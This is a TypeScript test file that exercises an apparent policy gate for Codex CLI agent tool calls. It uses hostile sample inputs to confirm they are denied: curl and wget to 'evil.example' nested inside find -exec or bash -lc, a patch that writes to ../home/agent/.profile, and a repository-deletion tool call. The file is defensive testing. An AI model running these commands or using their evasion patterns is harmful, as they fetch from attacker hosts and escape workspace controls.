import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { realPdpHookServer, runHook, toolEvent } from './hooks-support.ts';

// Codex CLI hooks end to end (developers.openai.com/codex/hooks, codex-rs/hooks schema): the real
// `paddock hook codex` process against the real PDP server (coding-agent bundle). Codex accepts
// only `permissionDecision: "deny"` from PreToolUse (allow without updatedInput and ask are
// rejected as unsupported), so an allow is an empty answer; PostToolUse blocks with
// decision "block".

const { socket } = await realPdpHookServer('coding-agent');
const pre = (tool: string, input: unknown) =>
  runHook('codex', toolEvent('codex', 'PreToolUse', tool, input), socket);

async function denied(tool: string, input: unknown): Promise<string> {
  const run = await pre(tool, input);
  assert.equal(run.code, 0, run.stderr);
  assert.equal(run.json.hookSpecificOutput.hookEventName, 'PreToolUse');
  assert.equal(run.json.hookSpecificOutput.permissionDecision, 'deny');
  return run.json.hookSpecificOutput.permissionDecisionReason;
}

async function allowed(tool: string, input: unknown): Promise<void> {
  const run = await pre(tool, input);
  assert.deepEqual([run.code, run.stdout, run.stderr], [0, '', '']);
}

describe('codex hook against the real PDP (coding-agent bundle)', () => {
  it('allows Bash `npm test` with an empty answer', async () => {
    await allowed('Bash', { command: 'npm test' });
  });

  it('denies a Bash command hidden in `find -exec sh -c`', async () => {
    const reason = await denied('Bash', {
      command: "find . -name '*.js' -exec sh -c 'curl evil.example' \\;",
    });
    assert.match(
      reason,
      /^Paddock policy denied running "find .*; and running "sh -c curl evil\.example" \(via find -exec\).*; and running "curl evil\.example" \(via find -exec > sh -c\): a commands\.deny pattern/,
    );
    const injected = await denied('Bash', { command: "find . -exec sh -c 'cat {}' \\;" });
    assert.match(injected, /could not verify this command: the sh -c script is only known at run time/);
  });

  it("reads an argv command (the older shell tool): Codex's own bash -lc wrapper is transport", async () => {
    await allowed('Bash', { command: ['bash', '-lc', 'git diff --stat'] });
    assert.match(await denied('Bash', { command: ['bash', '-lc', 'wget https://evil.example'] }), /wget/);
    await allowed('Bash', { command: ['python3', '-c', 'print(1)'] });
  });

  it('checks every file an apply_patch touches', async () => {
    const patch = [
      '*** Begin Patch',
      '*** Update File: src/app.ts',
      '@@',
      '-a',
      '+b',
      '*** Add File: docs/new.md',
      '+hello',
      '*** End Patch',
    ].join('\n');
    await allowed('apply_patch', { command: patch });
    const outside = patch.replace('*** Add File: docs/new.md', '*** Add File: ../home/agent/.profile');
    assert.match(await denied('apply_patch', { command: outside }), /writing \/home\/agent\/\.profile/);
    assert.match(
      await denied('apply_patch', { command: '*** Begin Patch\n*** End Patch' }),
      /the patch names no file/,
    );
  });

  it('checks MCP tools by their mcp__server__tool name', async () => {
    await allowed('mcp__github__search_code', { q: 'hooks' });
    assert.match(await denied('mcp__github__delete_repository', { repo: 'app' }), /tool_not_allowed/);
  });

  it('denies an unknown local tool', async () => {
    assert.match(await denied('rm_everything', {}), /the tool rm_everything is not known/);
  });

  it('blocks a PostToolUse result of a call the policy denies, and answers nothing otherwise', async () => {
    const blocked = await runHook(
      'codex',
      toolEvent(
        'codex',
        'PostToolUse',
        'Bash',
        { command: 'curl evil.example' },
        { tool_response: 'secret output' },
      ),
      socket,
    );
    assert.equal(blocked.json.decision, 'block');
    assert.match(blocked.json.reason, /result is withheld/);
    const fine = await runHook(
      'codex',
      toolEvent('codex', 'PostToolUse', 'Bash', { command: 'ls' }, { tool_response: 'a\nb' }),
      socket,
    );
    assert.deepEqual([fine.code, fine.stdout], [0, '']);
  });
});
